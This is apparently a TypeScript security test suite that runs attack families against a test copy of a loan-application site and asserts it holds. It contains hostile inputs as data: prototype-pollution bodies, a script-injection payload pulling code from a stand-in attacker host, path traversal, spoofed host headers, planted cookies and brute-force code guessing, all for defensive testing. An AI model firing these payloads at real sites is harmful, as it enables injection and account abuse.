import assert from "node:assert/strict";
import { siteSettings } from "../../../app/config.ts";
import { referenceOf } from "../../../app/domain/application/reference.ts";
import type { CounterRow } from "../../../app/domain/contract/operator/counters.ts";
import { pages } from "../../../app/pages.ts";
import { servicesSettings } from "../../../workers/services/settings/read-settings.ts";
import { hostileArticles } from "../../hostile-articles.ts";
import { fillSteps, formOf, httpVisitor, startApplication, steps } from "../../http-visitor.ts";
import { somebody } from "../../people.ts";
import { partnersArticle } from "../../published-page.ts";
import { asProgram, startTestSite, type TestSite } from "../../standalone-site.ts";
import { until } from "../../until.ts";
import { submissionPath, submitAsProgram, untilStatus } from "../../worker/program.ts";
import type { Fault } from "../product-backend.ts";
import { evil, finishSolved, minutesOf, repeated, type Target, untilRecorded } from "./target.ts";

/**
 * A family of attacks. attack.ts also checks for every family that no response is a server error and that no page
 * leads away.
 */
type Attack = {
  family: string;
  /** How often the attack is repeated, in `npm test` and in the long form. */
  times: { short: number; long: number };
  /** Statuses from 500 on that are expected. */
  allowed?: readonly number[];
  /**
   * @returns what held, with figures.
   * @throws an assertion error that says what did not hold.
   */
  run(target: Target, times: number): Promise<string>;
};

const solved = () => ({ captchaToken: `solved-${crypto.randomUUID()}` });
const pick = <Value>(list: readonly Value[], at: number): Value => list[at % list.length] as Value;
const rows = (site: TestSite) =>
  site.operate<{ leads: { id: string; status: string }[] }>("/leads?limit=500").then(({ leads }) => leads);
const timesRecorded = ({ backend }: Target, ids: readonly string[]) => {
  const recorded = backend.recorded();
  return ids.map((id) => recorded.get(id) ?? 0).reduce((sum, times) => sum + times, 0);
};

/** One address requests everything that costs us something. */
async function flood(target: Target, times: number): Promise<string> {
  const { site, backend } = target;
  const from = { "cf-connecting-ip": "203.0.113.66" };
  const callsTo = (paths: RegExp) => backend.calls.filter(({ path }) => paths.test(path)).length;
  const callsBefore = { captchas: callsTo(/^\/verify/), visits: callsTo(/^\/(?:pixels|geocoding)/) };
  const lookupStatuses: number[] = [];
  const minutes = await minutesOf(async () => {
    await repeated(times, (n) => submitAsProgram(site, { ...somebody(), captchaToken: `mal-${n}` }, from));
    await repeated(times, (n) => httpVisitor(site.origin, from).get(`/sem?src=inventado-${n}&affid=${n}`));
    for (const path of ["/recibo/", "/auto-credito/thank-you-plain?ref="])
      lookupStatuses.push(
        ...(await repeated(times, async () => {
          const id = crypto.randomUUID();
          const reference = path.endsWith("=") ? await referenceOf(id) : id;
          return (await httpVisitor(site.origin, from).get(path + reference)).status;
        })),
      );
  });
  const { body } = await submitAsProgram(site, { ...somebody(), ...solved() });
  await untilStatus(site, body.reference, "delivered");
  const captchas = callsTo(/^\/verify/) - callsBefore.captchas - 1;
  const visits = callsTo(/^\/(?:pixels|geocoding)/) - callsBefore.visits;
  const { rows: counterRows } = await site.operate<{ rows: CounterRow[] }>("/counters");
  const names = new Set(counterRows.flatMap(({ source }) => (source.startsWith("inventado-") ? source : [])))
    .size;
  // Look-ups that began before the limit was known may still be under way, at most a batch of them.
  assert.ok(captchas <= 20 * minutes, `${captchas} captchas checked in ${minutes} minutes`);
  assert.ok(visits <= 70 * minutes, `${visits} calls of partners in ${minutes} minutes`);
  assert.ok(names <= 20 * 2, `${names} made-up names counted`);
  const served = lookupStatuses.filter((status) => status !== 429);
  assert.ok(served.length <= 60 * minutes, `${served.length} look-ups in ${minutes} minutes`);
  assert.ok(
    served.every((status) => [200, 404].includes(status)),
    `look-ups got the statuses ${[...new Set(served)]}`,
  );
  return `in ${minutes} min. ${captchas} captchas, ${visits} calls of partners, ${served.length} look-ups, ${names} made-up names counted; another address's lead was delivered meanwhile`;
}

const types = [
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "application/json",
  "text/plain",
  "",
  "application/x-www-form-urlencoded; charset=utf-7",
];
const shreds = [
  "__proto__=1&constructor[prototype][x]=1&first_name[]=a&first_name[]=b",
  '{"__proto__":{"isOperator":true},"answers":[[[[',
  '--x\r\nContent-Disposition: form-data; name="submission_id"\r\n\r\n',
  "%".repeat(5000),
  "a=".repeat(20_000),
  `first_name=${encodeURIComponent(`"><script src=https://${evil}/x.js></script>`)}&submission_id=../../x`,
  "submission_id=%00%ff%fe&form_token=%F0%28%8C%28",
];
const targets = [
  ...Object.values(pages).map(({ path }) => path.replace(/\/:\w+\??/g, "")),
  "/auto-credito/guardar",
  "/csp",
  "/errores",
  `/services${submissionPath}`,
  "/services/operator/leads",
  "/services/target/v1/executeTargetAction",
];

/** Sends bodies, queries, cookies and hosts that no browser sends. */
async function junk({ site }: Target, times: number): Promise<string> {
  const leadsBefore = (await rows(site)).length;
  await repeated(times, (n) => {
    const path = pick(targets, n);
    const shred = pick(shreds, Math.floor(n / targets.length));
    const type = pick(types, Math.floor(n / 3));
    const isRead = n % 4 === 3;
    const cookie = ["solicitud.0", "llave.auto-credito", "guardada.0", "visita", "origen", "perfil"]
      .map((name) => `${name}=${encodeURIComponent(shred.slice(0, 300))}`)
      .join("; ");
    return fetch(`${site.origin}${path}?${isRead ? `ref=${encodeURIComponent(shred.slice(0, 2000))}` : ""}`, {
      method: isRead ? "GET" : "POST",
      redirect: "manual",
      ...(!isRead && { body: shred }),
      headers: {
        ...(type && !isRead && { "content-type": type }),
        origin: n % 5 === 0 ? `https://${evil}` : site.origin,
        "x-forwarded-host": evil,
        forwarded: `host=${evil}`,
        "cf-connecting-ip": `198.51.${n % 250}.${Math.floor(n / 250) % 250}`,
        cookie,
      },
    }).then((response) => {
      assert.ok(!response.headers.get("location")?.includes(evil), `${path} leads to ${evil}`);
    });
  });
  const more = (await rows(site)).length - leadsBefore;
  assert.equal(more, 0, `${more} of the requests became leads`);
  return "no lead, and no redirect to the host that the requests name";
}

/** Sends the same application again and again, from copies of its browser and from a program. */
async function replay(target: Target, times: number): Promise<string> {
  const { site } = target;
  const answers = somebody();
  const visitor = httpVisitor(site.origin);
  const id = await fillSteps(visitor, answers);
  const token = `solved-${crypto.randomUUID()}`;
  const pages = await repeated(times, () => {
    const copy = httpVisitor(site.origin, {}, visitor.cookies);
    copy.token = visitor.token;
    return finishSolved(copy, id, answers, { "cf-turnstile-response": token });
  });
  const outcomes = new Set(pages.map(({ status, location }) => `${status} ${location}`));
  assert.equal(
    outcomes.size,
    1,
    `one application got different responses: ${[...outcomes].slice(0, 3).join(", ")}`,
  );
  const submissionId = crypto.randomUUID();
  const program = { ...somebody(), ...solved(), submissionId };
  const references = await repeated(times, async () => (await submitAsProgram(site, program)).body.reference);
  assert.equal(new Set(references).size, 1, "one program's lead has one reference");
  await untilRecorded(target, [id, submissionId]);
  const recorded = timesRecorded(target, [id, submissionId]);
  assert.equal(recorded, 2, `2 leads were recorded ${recorded} times`);
  return `2 leads, each delivered once, one response for all copies`;
}

/** Does eight times at once what is right only once. */
async function races(target: Target, times: number): Promise<string> {
  const { site, backend } = target;
  let deliveredCount = 0;
  for (let round = 0; round < times; round++) {
    // Eight different applications have one id. Only the first is accepted.
    const submissionId = crypto.randomUUID();
    const statuses = await repeated(
      8,
      async () => (await submitAsProgram(site, { ...somebody(), ...solved(), submissionId })).status,
      8,
    );
    assert.equal(statuses.filter((status) => status === 200).length, 1, `one id: ${statuses.join()}`);
    // One person applies under eight ids. Buyers pay for one lead.
    const person = somebody();
    const ids = Array.from({ length: 8 }, (): string => crypto.randomUUID());
    await repeated(
      8,
      (n) => submitAsProgram(site, { ...person, ...solved(), submissionId: pick(ids, n) }),
      8,
    );
    await until("the outcome of all eight", async () => {
      const indexRows = (await rows(site)).filter((row) => ids.includes(row.id));
      return indexRows.length === 8 && indexRows.every(({ status }) => status !== "queued");
    });
    const deliveries = timesRecorded(target, ids);
    assert.equal(deliveries, 1, `one person's lead was delivered ${deliveries} times`);
    deliveredCount += deliveries + timesRecorded(target, [submissionId]);
  }
  // Twenty guesses of a saved application's four digits come at once, and then the right digits.
  const answers = somebody();
  const saver = httpVisitor(site.origin);
  const submission_id = await fillSteps(saver, answers);
  await saver.post(steps.finish, { submission_id, ...formOf("finish", answers), intent: "save" });
  const unlock = (last_four: string) => {
    const copy = httpVisitor(site.origin, {}, saver.cookies);
    copy.token = saver.token;
    return copy.post(steps.contact, { intent: "unlock", last_four });
  };
  const rightDigits = answers.phone?.slice(-4) ?? "";
  await repeated(20, (n) => unlock(String((Number(rightDigits) + n + 1) % 10_000).padStart(4, "0")), 20);
  const afterGuesses = await unlock(rightDigits);
  assert.ok(!afterGuesses.location.endsWith("?sigues"), "twenty guesses at once cost five");
  assert.ok(backend.calls.length > 0);
  return `${deliveredCount} delivered, one for each id and person; after 20 guesses at once the right digits open nothing`;
}

/**
 * Plants an attacker's draft in the victim's browser from a sibling domain: every cookie that `__Host-` does not keep
 * out.
 */
async function planted({ site }: Target, times: number): Promise<string> {
  const attacker = httpVisitor(site.origin);
  await fillSteps(attacker, { ...somebody(), first_name: "Malvado" });
  const pieces = [...attacker.cookies].filter(([name]) => /^solicitud\./.test(name));
  assert.ok(pieces.length > 0, "the attacker has no draft, so this case tests nothing");
  const victim = httpVisitor(site.origin);
  await startApplication(victim);
  const ownCookies = [...victim.cookies];
  const shapes: ((value: string) => string)[] = [
    (value) => value,
    (value) => `${value}AAAA`,
    (value) => value.slice(0, -7),
    (value) => value.replace(/./, (first) => (first === "A" ? "B" : "A")),
    (value) => [...value].reverse().join(""),
    () => "",
  ];
  const isOpened = await repeated(times, async (n) => {
    const copies = pieces.map(([name, value]): [string, string] => [name, pick(shapes, n)(value)]);
    // The visitor's browser is new, or has its own id, or has an application under way.
    const earlierCookies =
      [[], ownCookies.filter(([name]) => name.startsWith("llave")), ownCookies][n % 3] ?? [];
    const page = await httpVisitor(site.origin, {}, [...earlierCookies, ...copies]).get(
      pick(Object.values(steps), Math.floor(n / 18)),
    );
    return page.body.includes("Malvado");
  });
  const count = isOpened.filter(Boolean).length;
  assert.equal(count, 0, `${count} planted drafts open`);
  return "no planted draft opens, whole, cut or changed";
}

const category = "/temas-de-ayuda/auto-credito";
const articleAt = (n: number) => `${category}/hostil-${n}`;
/** The backend's replies when somebody reads an article. */
export const hostileAnswers = Object.fromEntries(
  hostileArticles.map(({ html }, n) => [
    articleAt(n),
    partnersArticle(`<p>Antes.</p>${html}`, {
      id: articleAt(n),
      link: `https://${evil}${articleAt(n)}`,
      picture: () => "https://fotos.example/x.webp",
    }),
  ]),
);
const faults: readonly Fault[] = ["none", "garbage", "500", "broken", "redirect", "cut", "404", "hang"];

/** The backend sends hostile articles and meets all other calls with nonsense, while people apply. */
async function partner(target: Target, times: number): Promise<string> {
  const { site, backend } = target;
  const ids: string[] = [];
  let call = 0;
  target.fault((path) => {
    call += 1;
    // A refusal would be a valid reply, so it is not among the faults.
    return path.startsWith(category) || path === "/verify" ? "none" : pick(faults, call);
  });
  let shownCount = 0;
  await repeated(times, async (n) => {
    const { status, body } = await httpVisitor(site.origin).get(
      n % 2 === 0
        ? articleAt((n / 2) % hostileArticles.length)
        : pick(["/sem", "/", "/faq", steps.contact], n),
    );
    assert.ok(status === 200 || status === 404, `a page got status ${status}`);
    if (status === 200 && body.includes("Antes.")) shownCount += 1;
    if (n % 10 !== 0) return;
    const submissionId = crypto.randomUUID();
    const { status: leadStatus } = await submitAsProgram(site, { ...somebody(), ...solved(), submissionId });
    assert.equal(leadStatus, 200, `a lead got status ${leadStatus}`);
    ids.push(submissionId);
  });
  assert.ok(shownCount > 0, "no hostile article was shown, so this case tests nothing");
  target.fault(() => "none");
  await Promise.all(ids.map((id) => site.operate(`/leads/${id}/retry`, "POST")));
  await untilRecorded(target, ids);
  const repeatedCount = ids.filter((id) => backend.recorded().get(id) !== 1).length;
  assert.equal(repeatedCount, 0, `${repeatedCount} leads were recorded twice`);
  return `${shownCount} hostile articles shown without what is hostile; ${ids.length} leads accepted meanwhile, each delivered once`;
}

const nonsense = `](*&^nonsense ñ % https://${evil}/`;
const variables = [
  ...Object.keys(siteSettings).map((name) => ["site", name] as const),
  ...Object.keys(servicesSettings).map((name) => ["services", name] as const),
];
/** Variables in which an earlier problem was found come first. */
const formerProblems = ["SITE_ORIGIN", "DRAFT_KEYS", "OPERATOR_PUBLIC_KEYS"];
const isFirst = ([, name]: (typeof variables)[number]) => formerProblems.includes(name);

/** Sets one variable after another to nonsense. */
async function settings(target: Target, times: number): Promise<string> {
  const triedVariables = [...variables.filter(isFirst), ...variables.filter((row) => !isFirst(row))].slice(
    0,
    times,
  );
  let refusedCount = 0;
  for (const [worker, name] of triedVariables) {
    const site = await startTestSite({ [worker]: { [name]: nonsense } });
    const ask = async (path: string, init: object = {}, host = "sitio.example") => {
      const response = await site.runtime.dispatchFetch(`https://${host}${path}`, {
        redirect: "manual",
        ...init,
      });
      return { status: response.status, text: await target.saw(response as unknown as Response) };
    };
    try {
      for (const path of ["/", "/sem", "/contactanos"]) {
        const otherHostPage = await ask(path, {}, evil);
        const page = await ask(path);
        for (const { status } of [otherHostPage, page])
          assert.ok([200, 421].includes(status), `${name}: ${path} got status ${status}`);
      }
      const health = await ask("/services/health");
      assert.ok(!health.text.includes(name), `${name}: health names it to anybody`);
      const submissionId = crypto.randomUUID();
      const { status } = await ask(`/services${submissionPath}`, {
        method: "POST",
        headers: { ...asProgram, "content-type": "application/x-www-form-urlencoded" },
        body: new URLSearchParams({ ...(somebody() as Record<string, string>), submissionId }).toString(),
      });
      if (status === 200)
        // A wrong variable that closes the operators' interface leaves no list to check.
        await until(`${name}: the accepted lead`, async () => {
          const listed: { id: string }[] | undefined = await rows(site);
          return !listed || listed.some(({ id }) => id === submissionId);
        });
      else refusedCount += 1;
    } finally {
      await site.end();
    }
  }
  return `${triedVariables.length} variables, one at a time: pages are shown, health names none, a lead is kept (${triedVariables.length - refusedCount}) or refused (${refusedCount})`;
}

export const attacks: readonly Attack[] = [
  { family: "flood", times: { short: 40, long: 300 }, run: flood },
  { family: "junk", times: { short: 200, long: 4000 }, run: junk },
  { family: "replay", times: { short: 30, long: 500 }, run: replay },
  { family: "races", times: { short: 1, long: 25 }, run: races },
  { family: "planted cookies", times: { short: 54, long: 1000 }, run: planted },
  { family: "hostile partner", times: { short: 60, long: 1000 }, run: partner },
  { family: "wrong settings", times: { short: 3, long: variables.length }, allowed: [503], run: settings },
];
